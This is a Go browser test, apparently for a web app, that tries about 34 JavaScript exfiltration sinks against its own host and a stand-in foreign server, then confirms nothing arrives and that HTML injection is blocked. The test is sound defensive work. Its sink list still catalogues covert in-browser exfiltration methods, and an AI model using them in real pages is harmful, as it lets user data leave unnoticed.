//go:build !js

package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"offercheck/app/drive"
	"offercheck/app/site"
)

// sinks is every way in which a page may send something to a server: a script in which $
// is an address, which has the marker in its query.
var sinks = []struct{ name, script string }{
	{"fetch", `fetch($).catch(() => {})`},
	{"fetch without cors", `fetch($, { mode: "no-cors", keepalive: true }).catch(() => {})`},
	{"XMLHttpRequest", `{ const r = new XMLHttpRequest(); r.open("POST", $); r.send("x"); }`},
	{"beacon", `navigator.sendBeacon($, "x")`},
	{"WebSocket", `new WebSocket($.replace("http", "ws"))`},
	{"EventSource", `new EventSource($)`},
	{"image", `new Image().src = $`},
	{"image set", `document.body.append(Object.assign(document.createElement("img"), { srcset: $ + " 2x" }))`},
	{"style sheet", `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: $ }))`},
	{"icon", `document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: $ }))`},
	{"manifest", `document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: $ }))`},
	{"preload", `document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "script", href: $ }))`},
	{"module preload", `document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: $ }))`},
	{"script", `document.head.append(Object.assign(document.createElement("script"), { src: $ }))`},
	{"import", `import($).catch(() => {})`},
	{"font", `new FontFace("x", "url(" + $ + ")").load().catch(() => {})`},
	{"style of an element", `document.body.style.backgroundImage = "url(" + $ + ")"`},
	{"rule of a style sheet", `document.styleSheets[0].insertRule("main { background: url(" + $ + ") }", 0)`},
	{"audio", `new Audio($).play().catch(() => {})`},
	{"video poster", `document.body.append(Object.assign(document.createElement("video"), { poster: $ }))`},
	{"track", `{ const v = document.createElement("video"); v.append(Object.assign(document.createElement("track"), { src: $, default: true })); document.body.append(v); }`},
	{"frame", `document.body.append(Object.assign(document.createElement("iframe"), { src: $ }))`},
	{"object", `document.body.append(Object.assign(document.createElement("object"), { data: $ }))`},
	{"embed", `document.body.append(Object.assign(document.createElement("embed"), { src: $ }))`},
	{"worker", `new Worker($)`},
	{"shared worker", `new SharedWorker($)`},
	{"service worker", `navigator.serviceWorker.register($).catch(() => {})`},
	{"form", `{ const f = Object.assign(document.createElement("form"), { action: $, method: "post" }); document.body.append(f); f.submit(); }`},
	{"ping", `{ const a = Object.assign(document.createElement("a"), { href: "#x", ping: $ }); document.body.append(a); a.click(); }`},
	{"SVG image", `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + $ + "'/></svg>")`},
	{"call to a browser", `new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL($).host }] }).createDataChannel("x")`},
	{"WebTransport", `new WebTransport($.replace("http:", "https:"))`},
	{"worklet", `CSS.paintWorklet?.addModule($).catch(() => {})`},
	{"report", `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri " + $ })), new Image().src = "none"`},
}

// TestNothingIsSent tries every sink from a page whose program runs, with the worker in
// between and without, to the own host and to another one. Nothing may arrive at either.
func TestNothingIsSent(t *testing.T) {
	if err := built(); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var arrived []string
	note := func(at string, r *http.Request) {
		if strings.Contains(r.URL.RawQuery, "leak=") {
			mu.Lock()
			defer mu.Unlock()
			arrived = append(arrived, at+" by "+r.URL.Query().Get("leak"))
		}
	}
	foreign := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { note("another host", r) }))
	defer foreign.Close()
	host := site.Handler(siteDir, base)
	own := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { note("the own host", r); host.ServeHTTP(w, r) })
	for _, worker := range []bool{true, false} {
		t.Run(fmt.Sprintf("worker %v", worker), func(t *testing.T) {
			w := drive.Open(t, own, base)
			w.Allow("Content Security Policy", "Trusted", "leak=", "RTCPeerConnection", "WebTransport", "ERR_", "not defined", "Refused")
			if !worker {
				w.InitScript(`addEventListener("DOMContentLoaded", () => { if (navigator.serviceWorker) navigator.serviceWorker.register = () => new Promise(() => {}); })`)
			}
			w.Load("/tasks/")
			if worker {
				w.Wait(drive.Controlled)
			}
			for _, s := range sinks {
				for _, to := range []string{`location.origin + ` + quote(base) + ` + "x?leak=" + `, quote(foreign.URL+"/x?leak=") + ` + `} {
					address := `(` + to + `encodeURIComponent(` + quote(s.name) + `))`
					drive.Eval[bool](w, `(() => { try { `+strings.ReplaceAll(s.script, "$", address)+` } catch {} })(), true`)
				}
			}
			if drive.Eval[bool](w, `"RTCPeerConnection" in window || "WebTransport" in window`) {
				t.Error("the page can call other browsers, which no server here would see")
			}
			for _, html := range []string{
				`document.body.insertAdjacentHTML("beforeend", "<p>x</p>")`, `document.createElement("p").innerHTML = "x"`, `document.write("x")`,
				`document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "x" }))`, `new DOMParser().parseFromString("x", "text/html")`,
				`document.createElement("script").text = "1"`, `trustedTypes.createPolicy("default", {})`,
			} {
				if drive.Eval[bool](w, `(() => { try { `+html+`; return true } catch { return false } })()`) {
					t.Errorf("the page takes a text as HTML or as a script: %s", html)
				}
			}
			time.Sleep(2 * time.Second)
		})
	}
	mu.Lock()
	defer mu.Unlock()
	slices.Sort(arrived)
	for _, a := range slices.Compact(arrived) {
		t.Errorf("something reached %s", a)
	}
}
